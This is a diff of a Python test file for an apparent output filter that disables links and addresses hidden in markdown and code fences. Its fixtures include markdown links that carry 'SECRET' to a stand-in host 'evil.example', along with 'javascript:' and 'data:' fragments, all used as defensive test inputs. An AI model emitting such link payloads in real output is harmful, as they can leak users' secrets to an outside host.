@@ -58,6 +58,63 @@ def test_nobody_is_mentioned(text: str) -> None:
     assert output_checks.faults(text) == []
 
 
+CONTINUED = "|", ">", '"', "\\", "`", "<!", "<@", "|<!"
+"""Characters at which the filter ends an address, and at which a client may go on."""
+AMBIGUOUS_CODE = (
+    "~~~{}",
+    "```{}",
+    "`````{}",
+    "```\n```{}",
+    "```\ne```{}",
+    "``` {}\n```",
+    "- ```\n  ````a\n{}",
+    "`{}",
+    "_{}_",
+)
+
+
+@pytest.mark.parametrize("code", AMBIGUOUS_CODE)
+def test_an_allowed_address_in_ambiguous_code_is_not_linked_with_what_follows_it(code: str) -> None:
+    for address in ALLOWED:
+        for mark in CONTINUED:
+            for rest in ("", "x", "?q=SECRET", "x`", "!", "-", "#x"):
+                assert output_checks.faults(code.format(f"{address}{mark}{rest}")) == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "\0    [::]/",
+        "#### ok.com/x ps://",
+        "``2``#### ok.com/x ps://",
+        "#### ok.com/x ``l``",
+        "`http://ok.example/book_(2)|http/ok.example/book",
+        "```\n```\n`http://ok.example/path?a=1&b=2<ok.example/page",
+        "_data:x_http://ok.example/page",
+        "http://ok.example/page![_javascript:)_",
+    ],
+)
+def test_a_text_that_was_rendered_does_not_change_when_it_is_rendered_again(text: str) -> None:
+    assert output_checks.faults(text) == []
+
+
+@pytest.mark.parametrize("address", ["https:/evil.example", "http:evil.example", "https:ok"])
+def test_an_address_in_angle_brackets_needs_no_slashes_to_be_disabled(address: str) -> None:
+    for form in ("<{}>", "``````<{}>", "~~~<{}>\n~~~", "`<{}>"):
+        assert output_checks.faults(form.format(address)) == []
+
+
+SHORT_SOUP = st.lists(
+    st.sampled_from([*ALLOWED, *(form.format(one, one) for form in FORMS for one in ALLOWED), *MARKS]), max_size=6
+).map("".join)
+
+
+@given(SHORT_SOUP)
+@settings(max_examples=300, deadline=None, derandomize=True)
+def test_allowed_addresses_between_marks_are_safe(text: str) -> None:
+    assert output_checks.faults(text) == []
+
+
 FENCE_IN_A_TABLE = "```[x](https://evil.example/?q=SECRET)|b\n-|-\n"
 BEFORE_CODE = "[click\n```\nx](https://evil.example)\n```"
 
